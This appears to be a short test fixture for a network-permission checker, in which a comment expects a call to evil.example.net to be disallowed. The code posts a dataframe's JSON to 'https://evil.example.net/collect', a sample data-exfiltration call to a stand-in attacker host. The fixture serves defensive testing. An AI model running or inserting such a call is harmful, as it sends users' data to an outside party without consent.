# expect: http_client(host=evil.example.net allowed=false)
import requests
requests.post("https://evil.example.net/collect", data=df.to_json())
